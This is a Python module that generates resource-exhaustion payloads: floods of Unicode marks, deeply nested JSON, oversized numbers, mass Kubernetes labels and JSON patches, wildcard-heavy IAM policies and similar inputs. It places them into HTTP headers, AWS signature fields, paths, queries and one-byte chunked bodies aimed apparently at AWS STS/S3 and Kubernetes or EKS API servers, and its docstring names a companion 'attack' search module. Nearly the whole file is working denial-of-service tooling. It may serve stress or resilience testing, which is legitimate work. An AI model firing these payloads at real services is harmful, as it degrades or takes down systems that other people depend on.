"""Requests that may cost a server more than they cost their sender: texts, and places for them.

A place makes a whole request out of a text of about `size` bytes. compose/attack searches them.
"""

import base64
import json
import random

HEAD = 48 << 10
BODY = 3 << 20


def filled(size, *parts):
    """The parts in turn until there are `size` bytes."""
    piece = "".join(parts)
    return piece * max(1, size // max(1, len(encoded(piece))))


def numbered(size, form):
    out, count, length = [], 0, 0
    while length < size:
        out.append(form % {"n": count})
        length += len(out[-1])
        count += 1
    return "".join(out)


def nested(size, opened, closed):
    depth = max(1, size // (len(opened) + len(closed)))
    return opened * depth + closed * depth


# What a text is made of; each takes the wanted number of bytes.
TEXTS = {
    "letters": lambda n: filled(n, "a"),
    "marks of alternating class": lambda n: "a" + filled(n, "\u0301", "\u0323"),
    "marks behind e": lambda n: "e" + filled(n, "\u0323", "\u0301", "\u05b0"),
    "Hangul parts": lambda n: filled(n, "\u1100", "\u1161"),
    "emoji with joiners": lambda n: filled(n, "\U0001f469", "\u200d"),
    "flags": lambda n: filled(n, "\U0001f1e6"),
    "percent signs": lambda n: filled(n, "%25"),
    "percent-encoded marks": lambda n: "a" + filled(n, "%CC%81", "%CC%A3"),
    "slashes": lambda n: filled(n, "/"),
    "ways up": lambda n: filled(n, "../"),
    "short segments": lambda n: filled(n, "a/"),
    "ampersands": lambda n: filled(n, "a=b&"),
    "different parameters": lambda n: numbered(n, "p%(n)d=1&"),
    "one parameter again": lambda n: filled(n, "Action=GetCallerIdentity&"),
    "falling parameters": lambda n: "&".join(f"p{n - i:08d}=1" for i in range(n // 11)),
    "commas": lambda n: filled(n, "a,"),
    "semicolons": lambda n: filled(n, "a;"),
    "equals signs": lambda n: filled(n, "="),
    "quotes": lambda n: filled(n, '"a",'),
    "blanks": lambda n: filled(n, " "),
    "stars": lambda n: filled(n, "*a"),
    "digits": lambda n: filled(n, "9"),
    "dots": lambda n: filled(n, "a."),
    "base64": lambda n: base64.b64encode(random.Random(1).randbytes(n * 3 // 4)).decode(),
    "a token's form": lambda n: ".".join(
        base64.urlsafe_b64encode(part).decode().rstrip("=") for part in (
            b'{"alg":"RS256","kid":"x"}', json.dumps({"sub": "x" * (n * 2 // 3)}).encode(), b"x")),
    "a token of marks": lambda n: ".".join(
        base64.urlsafe_b64encode(part).decode().rstrip("=") for part in (
            b'{"alg":"RS256"}', ('{"e' + filled(n * 2 // 3, "\u0301", "\u0323") + '":0}').encode(),
            b"x")),
    "open arrays": lambda n: filled(n, "["),
    "nested arrays": lambda n: nested(n, "[", "]"),
    "nested objects": lambda n: nested(n, '{"a":', "}").replace(":}", ":1}", 1),
    "an array of numbers": lambda n: "[" + filled(n, "1,") + "1]",
    "an array of arrays": lambda n: "[" + filled(n, "[1],") + "1]",
    "an array of towers": lambda n: "[" + filled(n, nested(200, "[", "]") + ",") + "1]",
    "an array of maps": lambda n: "[" + filled(n, '{"":1},') + "1]",
    "an array of objects": lambda n: "[" + filled(n, "{},") + "{}]",
    "a long number": lambda n: '{"a":' + filled(n, "1") + "}",
    "a small number": lambda n: '{"a":0.' + filled(n, "0") + "1}",
    "different members": lambda n: "{" + numbered(n, '"m%(n)d":0,') + '"z":0}',
    "one member again": lambda n: "{" + filled(n, '"apiVersion":0,') + '"z":0}',
    "a member of marks": lambda n: '{"a' + filled(n, "\u0301", "\u0323") + '":0}',
    "members of marks": lambda n: "{" + filled(
        n, '"k' + filled(2000, "\u0301", "\u0323") + '":0,') + '"z":0}',
    "escapes": lambda n: '{"a":"' + filled(n, "\\u0301", "\\u0323") + '"}',
    "lone surrogates": lambda n: '{"a":"' + filled(n, "\\ud800") + '"}',
    "blanks before a value": lambda n: filled(n, " ") + "{}",
    "labels": lambda n: json.dumps({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {
        "name": "x", "labels": {f"l{i}": "v" for i in range(n // 14)}}}),
    "annotations": lambda n: json.dumps({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {
        "name": "x", "annotations": {f"é{i}\u0301": "v" for i in range(min(n, 200_000) // 20)}}}),
    "unknown fields": lambda n: json.dumps({"apiVersion": "v1", "kind": "ServiceAccount",
        "metadata": {"name": "x"}, **{f"f{i}": i for i in range(n // 14)}}),
    "containers": lambda n: json.dumps({"apiVersion": "v1", "kind": "Pod", "metadata": {
        "name": "x"}, "spec": {"serviceAccountName": "s3-reader-sa", "containers": [
            {"name": f"c{i}", "image": "i", "env": [{"name": "A", "value": "$(A)" * 20}]}
            for i in range(n // 170)]}}),
    "names that are none": lambda n: json.dumps({"apiVersion": "v1", "kind": "Pod", "metadata": {
        "name": "x", "finalizers": ["!"] * (n // 12), "labels": {f"!%{i}": "" for i in range(n // 40)},
        "ownerReferences": [{}] * (n // 40)}, "data": {f"!%{i}": "" for i in range(n // 40)},
        "spec": {"volumes": [{}] * (n // 40), "containers": [{"name": "!"}] * (n // 160)}}),
    "small containers": lambda n: json.dumps({"apiVersion": "v1", "kind": "Pod", "metadata": {
        "generateName": "x"}, "spec": {"serviceAccountName": "s3-reader-sa", "containers": [
            {"name": f"c{i}", "image": "i"} for i in range(n // 30)]}}),
    "volumes without a name": lambda n: json.dumps({"apiVersion": "v1", "kind": "Pod", "metadata": {
        "name": "x"}, "spec": {"containers": [{"name": "a", "image": "a"}],
        "volumes": [{"": 1}] * (n // 9)}}),
    "a patch path of slashes": lambda n: json.dumps(
        [{"op": "test", "path": filled(n, "/"), "value": 1}]),
    "many audiences": lambda n: json.dumps({"spec": {"audiences": [""] * (n // 4)}}),
    "no UTF-8": lambda n: "\udc9f" * (n // 3),
    "patch operations": lambda n: json.dumps([
        {"op": "add", "path": f"/metadata/annotations/a{i}", "value": "1"}
        for i in range(n // 66)]),
    "patches of a large map": lambda n: json.dumps([
        {"op": "add", "path": "/metadata/annotations", "value": {
            f"m{i}": "" for i in range(n // 30)}},
        *[{"op": "replace", "path": f"/metadata/annotations/m{i}", "value": "1"}
          for i in range(min(9000, n // 130))]]),
    "patches that double": lambda n: json.dumps(
        [{"op": "add", "path": "/metadata/annotations", "value": {"a": "x" * (n // 2)}}]
        + [{"op": "copy", "from": "/metadata", "path": f"/metadata/x{i}"} for i in range(40)]),
    "a list of patch directives": lambda n: json.dumps({"metadata": {"finalizers": [
        f"f.example/{i}" for i in range(n // 18)], "$setElementOrder/finalizers": [
        f"f.example/{n - i}" for i in range(n // 18)]}}),
    "statements": lambda n: json.dumps({"Version": "2012-10-17", "Statement": [
        {"Effect": "Allow", "Action": "s3:*", "Resource": "*" + "a*" * 20}] * (n // 110)}),
    "conditions": lambda n: json.dumps({"Version": "2012-10-17", "Statement": [{
        "Effect": "Allow", "Principal": {"Service": "pods.eks.amazonaws.com"},
        "Action": ["sts:AssumeRole", "sts:TagSession"], "Condition": {"StringLike": {
            f"aws:RequestTag/k{i}": "*a" * 10 + "b" for i in range(n // 50)}}}]}),
}


def encoded(text):
    """A text's bytes; of half a surrogate pair three that are no UTF-8."""
    return text.encode("utf-8", "surrogatepass")


def message(method, target, host, headers=(), body=b"", length=True):
    head = [f"{method} {target} HTTP/1.1".encode(), b"Host: " + encoded(host)]
    head += [encoded(f"{name}: {value}") for name, value in headers]
    if length and (body or method in ("POST", "PUT", "PATCH")):
        head.append(b"Content-Length: %d" % len(body))
    return b"\r\n".join(head) + b"\r\n\r\n" + body


def in_target(text):
    """A text as part of a request line: no blanks or controls, other bytes percent-encoded."""
    return "".join(
        chr(byte) if 0x21 <= byte <= 0x7E else f"%{byte:02X}" for byte in encoded(text))


def chunked(body, size):
    pieces = [body[i:i + size] for i in range(0, len(body), size)]
    return b"".join(b"%x\r\n%s\r\n" % (len(piece), piece) for piece in pieces) + b"0\r\n\r\n"


def head_places(host, path, headers=()):
    """Places in the head of a request to a path; none needs more than `headers` to get there."""
    def field(name, prefix=""):
        return lambda text: message(
            "GET", path, host, [*headers, (name, prefix + text.replace("\n", ""))])

    places = {f"field {name}": field(name, prefix) for name, prefix in [
        ("Authorization", ""), ("Authorization", "Bearer "), ("Cookie", ""), ("Accept", ""),
        ("Origin", "http://"), ("Range", "bytes="), ("If-None-Match", ""), ("Content-Type", ""),
        ("If-Modified-Since", ""), ("X-Amz-Security-Token", ""), ("Accept-Encoding", ""),
        ("Transfer-Encoding", ""), ("X-Amz-Date", ""), ("X-Amz-Target", ""), ("Impersonate-User", ""),
        ("X-Forwarded-For", ""), ("Connection", ""), ("Expect", "")]}
    places["Bearer"] = field("Authorization", "Bearer ")
    places["signed fields"] = field(
        "Authorization", "AWS4-HMAC-SHA256 Credential=test/20260101/us-east-1/sts/aws4_request, "
        "Signature=0, SignedHeaders=host;")
    places["a credential"] = field(
        "Authorization", "AWS4-HMAC-SHA256 SignedHeaders=host, Signature=0, Credential=")
    places["the path"] = lambda text: message("GET", "/" + in_target(text), host, headers)
    places["behind the path"] = lambda text: message(
        "GET", path.rstrip("/") + "/" + in_target(text), host, headers)
    places["the query"] = lambda text: message("GET", path + "?" + in_target(text), host, headers)
    places["a parameter"] = lambda text: message(
        "GET", path + "?X-Amz-Signature=0&list-type=2&labelSelector=" + in_target(text), host,
        headers)
    places["presigned fields"] = lambda text: message(
        "GET", path + "?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=test/20260101/us-east-1/"
        "s3/aws4_request&X-Amz-Date=20260101T000000Z&X-Amz-Signature=0&X-Amz-SignedHeaders=host;"
        + in_target(text), host, headers)
    places["the host"] = lambda text: message("GET", path, text.replace("\n", ""), headers)
    places["field names"] = lambda text: message("GET", path, host, [
        *headers, *[(f"x-{i}", "a") for i in range(len(text) // 8)]])
    places["one field again"] = lambda text: message("GET", path, host, [
        *headers, *[("x-a", "b")] * (len(text) // 8)])
    return places


def body_places(host, method, path, headers=(), kind="application/json", wrap=str):
    """Places in a body: as it is, in chunks of one byte, in one string of JSON."""
    fields = [*headers, ("Content-Type", kind)]
    name = f"{method} {path} {kind}"
    return {
        f"the body of {name}": lambda text: message(
            method, path, host, fields, encoded(wrap(text))),
        f"the body of {name}, in chunks": lambda text: message(
            method, path, host, [*fields, ("Transfer-Encoding", "chunked")],
            chunked(encoded(wrap(text)), 1), length=False),
    }
